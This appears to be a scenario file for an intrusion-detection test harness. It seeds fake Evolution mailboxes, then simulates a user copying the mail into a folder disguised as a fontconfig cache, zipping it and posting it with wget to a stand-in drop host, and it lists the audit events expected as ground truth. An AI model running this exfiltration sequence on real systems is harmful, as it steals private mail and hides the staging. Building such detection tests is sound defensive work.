# Another client's own folders, in another layout.
title="Evolution's local folders packed by zip and uploaded with wget"
what="In a session as buyer the folders that Evolution keeps below ~/.local/share/evolution/mail/local, a Maildir++ tree, and the copies of an IMAP account below ~/.cache/evolution are copied to ~/.cache/fontconfig-old, packed with zip, and the archive is posted by wget --post-file to 203.0.113.66. The copy is removed."
host=ws3.example.org user=buyer daemons="cron sshd" audit_rules=audit-wide.rules

setup() {
  local store=/home/buyer/.local/share/evolution/mail/local cache="/home/buyer/.cache/evolution/mail/a1b2c3d4e5f60718293a4b5c6d7e8f9001020304/folders/INBOX/cur" box n
  for box in . .Sent .Drafts .Contracts; do
    mkdir -p "$store/$box"/{cur,new,tmp}
    for n in $(seq 1 12); do printf 'From: person%s@example.net\nTo: buyer@example.org\nSubject: %s %s\n\nText of message %s.\n\n' "$n" "$box" "$n" "$n" > "$store/$box/cur/17637000$n.4711_$n.ws3!2,S"; done
  done
  for n in $(seq 1 12); do mkdir -p "$cache/$(printf %02x $n)"; printf 'From: boss%s@example.net\nTo: buyer@example.org\nSubject: plan %s\n\nText.\n' "$n" "$n" > "$cache/$(printf %02x $n)/$n"; done
  chown -R buyer: /home/buyer/.local /home/buyer/.cache
}
act() {
  small_talk 2
  ssh_as buyer <<'L'
mkdir -p .cache/fontconfig-old
cp -r .local/share/evolution/mail/local .cache/evolution/mail .cache/fontconfig-old
%sleep 2
cd .cache
zip -qr f.zip fontconfig-old
wget -q -O /dev/null --post-file=f.zip http://drop.example.net/up/f
rm -rf f.zip fontconfig-old
L
  small_talk 1
}
truth() {
  file_step read 'cp openat:read NORMAL .*evolution/mail/local' 'the folders are copied'
  exec_step pack 'zip -qr f.zip' 'and packed'
  exec_step transfer 'wget .*--post-file=f.zip' 'the archive is posted'
  net_step connect 'wget 203.0.113.66:80' 'to an address outside'
}
